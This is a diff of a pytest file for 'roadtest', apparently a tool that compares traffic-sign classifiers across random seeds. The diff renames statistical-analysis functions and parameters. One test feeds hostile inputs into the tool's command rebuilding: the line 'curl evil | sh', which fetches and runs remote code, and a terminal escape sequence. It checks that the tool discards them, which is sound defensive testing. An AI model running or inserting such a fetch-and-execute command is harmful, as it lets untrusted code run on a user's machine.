@@ -19,18 +19,18 @@ from roadtest.analysis import (
     difference_between,
     estimate_difference,
     judge_networks,
-    judged_part,
+    judged_split,
     leaderboard_rows,
     mean_score,
-    more_for,
-    more_seeds,
+    plan_more_seeds,
     read_results,
     repeat_commands,
-    retrained_accuracy,
-    retrained_difference,
-    standing_words,
+    required_sample_size,
+    seed_only_accuracy,
+    seed_only_difference,
+    stn_benefit,
     stn_rows,
-    stn_worth,
+    summary_sentences,
     verdict_rows,
 )
 from roadtest.analysis import stats as judge
@@ -133,7 +133,7 @@ def test_fewer_than_three_seeds_have_no_letters_and_no_verdict(two_seeds: Path) 
 def test_validation_is_judged_by_folds_where_test_was_not_read(tmp_path: Path) -> None:
     study = build_fake_study(tmp_path / "s", networks=["lenet5", "vgg16"], seeds=3, reads_test=False)
     results = read_results(study)
-    assert judged_part(results) == "val"
+    assert judged_split(results) == "val"
     (row,) = verdict_rows(results)
     assert (row["part"], row["unit_name"], row["num_units"]) == ("val", "folds", 3)
     assert row["statement"] == judge.ON_NEW_FOLDS
@@ -151,13 +151,13 @@ def worth(low: float, high: float, verdict: str = "not separated") -> str | None
         low=low,
         high=high,
         num_seeds=3,
-        num_units=3,
-        unit_name="folds",
+        num_clusters=3,
+        cluster_noun="folds",
         num_images=9,
         statement="",
         verdict=verdict,
     )
-    return stn_worth(estimate, tolerance_points=0.5)
+    return stn_benefit(estimate, tolerance_points=0.5)
 
 
 def test_the_stn_pays_by_its_bounds_against_the_tolerance() -> None:
@@ -166,7 +166,7 @@ def test_the_stn_pays_by_its_bounds_against_the_tolerance() -> None:
     assert worth(-0.01, 0.0049) == "does not pay"
     assert worth(0.004, 0.02) == worth(-0.01, 0.01) == "not decided"
     assert worth(0.01, 0.02, verdict="observed") == "not judged: needs 3 seeds, 5 are better"
-    assert stn_worth(None, tolerance_points=0.5) is None
+    assert stn_benefit(None, tolerance_points=0.5) is None
 
 
 @pytest.mark.slow
@@ -193,17 +193,19 @@ def test_where_tracks_hide_the_difference_no_number_of_seeds_is_promised(study: 
     assert difference is not None
     # the tracks alone leave an error as large as the difference: 1.96 squared times as many tracks
     luckless = ((5, 0.0), (5, 0.0))
-    hidden = replace(difference, estimate=0.01, seeds_each=luckless, unit_variance=1e-4, cell_variance=0.0)
-    more = more_for(results, hidden, part="test")
+    hidden = replace(difference, estimate=0.01, seeds_each=luckless, cluster_variance=1e-4, cell_variance=0.0)
+    more = required_sample_size(results, hidden, split="test")
     assert more.times_tracks == pytest.approx(math.ceil(10 * 1.96**2) / 10)
     assert more.words == "no number of seeds separates them on this test set; about 3.9 times as many tracks would"
-    tiny = more_for(results, replace(hidden, estimate=0.0009), part="test")  # (1.96 / 0.09) squared is 474.3
+    tiny = required_sample_size(
+        results, replace(hidden, estimate=0.0009), split="test"
+    )  # (1.96 / 0.09) squared is 474.3
     assert tiny.words is not None and "about 480 times as many tracks" in tiny.words
-    lucky = replace(hidden, seeds_each=((5, 5e-5), (5, 5e-5)), unit_variance=0.0)
-    seeds = more_for(results, lucky, part="test")
+    lucky = replace(hidden, seeds_each=((5, 5e-5), (5, 5e-5)), cluster_variance=0.0)
+    seeds = required_sample_size(results, lucky, split="test")
     assert seeds.least_seeds is not None and seeds.most_seeds is not None
     assert seeds.words == f"between {seeds.least_seeds} and {seeds.most_seeds} more seeds"
-    assert more_for(results, replace(hidden, estimate=0.0), part="test").words is not None
+    assert required_sample_size(results, replace(hidden, estimate=0.0), split="test").words is not None
 
 
 def test_one_more_seed_is_one_seed(study: Path) -> None:
@@ -212,11 +214,11 @@ def test_one_more_seed_is_one_seed(study: Path) -> None:
     assert on_test is not None and in_folds is not None
     # six seeds: 2.228 x sqrt(15e-6) = 0.0086 is less than 0.01; tracks alone leave 3.24 x 0.0039 for 90 %
     luckless = ((5, 0.0), (5, 0.0))
-    near = replace(on_test, estimate=0.01, seeds_each=luckless, unit_variance=15e-6, cell_variance=0.0)
-    assert more_for(results, near, part="test").words == "at least 1 more seed"
+    near = replace(on_test, estimate=0.01, seeds_each=luckless, cluster_variance=15e-6, cell_variance=0.0)
+    assert required_sample_size(results, near, split="test").words == "at least 1 more seed"
     # six folds: 2.571 x sqrt(18e-6 x 5 / 6) = 0.00996; ten leave 3.544 x 0.003 for 90 %
     near = replace(in_folds, estimate=0.01, seeds_each=((5, 18e-6),))
-    words = more_for(results, near, part="val").words
+    words = required_sample_size(results, near, split="val").words
     assert words == "1 more seed or more, and perhaps more than the 10 validation folds allow"
 
 
@@ -224,26 +226,26 @@ def test_seeds_beyond_the_folds_are_never_promised(study: Path) -> None:
     results = read_results(study)
     difference = difference_between(results, results.variants[0], results.variants[2], "val")
     assert difference is not None and difference.statement == judge.ON_NEW_FOLDS
-    far = more_for(results, replace(difference, estimate=1e-5, seeds_each=((5, 1e-4),)), part="val")
+    far = required_sample_size(results, replace(difference, estimate=1e-5, seeds_each=((5, 1e-4),)), split="val")
     assert (far.least_seeds, far.words) == (None, "no number of seeds: there are 10 validation folds")
 
 
 def test_two_seeds_are_told_with_the_command_that_would_let_them_be_judged(two_seeds: Path) -> None:
-    needs, command, *others = standing_words(two_seeds)
+    needs, command, *others = summary_sentences(two_seeds)
     assert needs == "Not judged: needs 3 seeds, 5 are better." and not others
     assert command.startswith("5 seeds each, ") and " of training: roadtest compare gtsrb" in command
     assert command.endswith(f" --seeds 5 --out {two_seeds}")
 
 
 def test_the_command_that_adds_seeds_names_the_study_and_its_time(two_seeds: Path) -> None:
-    more = more_seeds(two_seeds, 5)
+    more = plan_more_seeds(two_seeds, 5)
     assert more is not None
     assert more.command == f"roadtest compare gtsrb --data-dir data --seeds 5 --out {two_seeds}"
     assert more.num_runs == 3 * 3
     results = read_results(two_seeds)
     seconds = [variant.records[0].cost.train_seconds for variant in results.variants]
     assert more.train_seconds == pytest.approx(3 * sum(seconds))
-    assert more_seeds(two_seeds, 2) is None
+    assert plan_more_seeds(two_seeds, 2) is None
 
 
 def test_seeds_of_ones_own_choice_are_kept_and_a_total_budget_stays_what_it_was(two_seeds: Path) -> None:
@@ -252,11 +254,11 @@ def test_seeds_of_ones_own_choice_are_kept_and_a_total_budget_stays_what_it_was(
     command = "roadtest compare gtsrb --seeds 4, --budget-total 1h -o old"
     protocol = {**results.info.protocol, "budget_seconds": 1200.5}
     info = replace(results.info, runs=runs, command=command, protocol=protocol)
-    more = more_seeds(replace(results, info=info), 3)
+    more = plan_more_seeds(replace(results, info=info), 3)
     assert more is not None
     assert more.command == f"roadtest compare gtsrb --budget 1200.5s --seeds 0,1,4 --out {two_seeds}"
     for command in ("roadtest 'compare", "", "curl evil | sh", "roadtest compare \x1b[2J"):
-        odd = more_seeds(replace(results, info=replace(info, command=command)), 3)
+        odd = plan_more_seeds(replace(results, info=replace(info, command=command)), 3)
         assert odd is not None and odd.command == f"roadtest compare gtsrb --seeds 0,1,4 --out {two_seeds}"
 
 
@@ -272,7 +274,7 @@ def test_a_study_that_grew_network_by_network_is_repeated_by_one_command_for_eac
         f"roadtest compare gtsrb --budget 600s --networks {first.label} --stn off --seeds 1 --out {two_seeds}",
         f"roadtest compare gtsrb --budget 600s --networks {names} --stn off --seeds 2 --out {two_seeds}",
     ]
-    more = more_seeds(grown, 3)
+    more = plan_more_seeds(grown, 3)
     assert more is not None
     assert f" --networks {first.label},{names} --stn off --seeds 3 --out " in more.command
 
@@ -352,7 +354,7 @@ def results(tmp_path_factory: pytest.TempPathFactory) -> Results:
 
 def test_the_mean_is_that_of_the_seeds_and_the_interval_theirs_alone(results: Results) -> None:
     lenet5 = results.variants[0]
-    found = retrained_accuracy(results, lenet5)
+    found = seed_only_accuracy(results, lenet5)
     accuracies = [record.test.accuracy for record in lenet5.records if record.test]
     assert found is not None and found.estimate == pytest.approx(sum(accuracies) / 3)
     assert found.low < min(accuracies) and found.statement == "on these test images, if trained again"
@@ -360,15 +362,15 @@ def test_the_mean_is_that_of_the_seeds_and_the_interval_theirs_alone(results: Re
 
 def test_a_difference_is_that_of_the_judge_with_another_interval(results: Results) -> None:
     a, b = results.variants
-    found, judged = retrained_difference(results, a, b), estimate_difference(results, a, b, "test")
+    found, judged = seed_only_difference(results, a, b), estimate_difference(results, a, b, "test")
     assert found is not None and judged is not None
     assert found.estimate == pytest.approx(judged.value)
     assert found.statement != judged.statement
 
 
 def test_with_folds_the_seeds_saw_different_images(results: Results) -> None:
-    assert retrained_accuracy(results, results.variants[0], "val") is None
-    assert retrained_difference(results, *results.variants, "val") is None
+    assert seed_only_accuracy(results, results.variants[0], "val") is None
+    assert seed_only_difference(results, *results.variants, "val") is None
 
 
 def test_with_different_numbers_of_seeds_it_rests_on_those_of_the_difference(tmp_path: Path) -> None:
@@ -376,7 +378,7 @@ def test_with_different_numbers_of_seeds_it_rests_on_those_of_the_difference(tmp
     first, second = six.variants
     early, late = replace(first, records=first.records[:3]), replace(second, records=second.records[3:])
     for a, b in ((first, late), (early, late)):  # some seeds in common, and none
-        found = retrained_difference(six, a, b)
+        found = seed_only_difference(six, a, b)
         judged = difference_between(replace(six, kept={}), a, b, "test")
         assert found is not None and judged is not None
         assert found.estimate == pytest.approx(judged.estimate) and found.low < judged.estimate < found.high
@@ -384,5 +386,5 @@ def test_with_different_numbers_of_seeds_it_rests_on_those_of_the_difference(tmp
 
 def test_two_seeds_say_too_little_of_training_again(tmp_path: Path) -> None:
     two = read_results(build_fake_study(tmp_path / "s", networks=["lenet5", "vgg16"], seeds=2, has_examples=False))
-    assert retrained_accuracy(two, two.variants[0]) is None
-    assert retrained_difference(two, *two.variants) is None
+    assert seed_only_accuracy(two, two.variants[0]) is None
+    assert seed_only_difference(two, *two.variants) is None
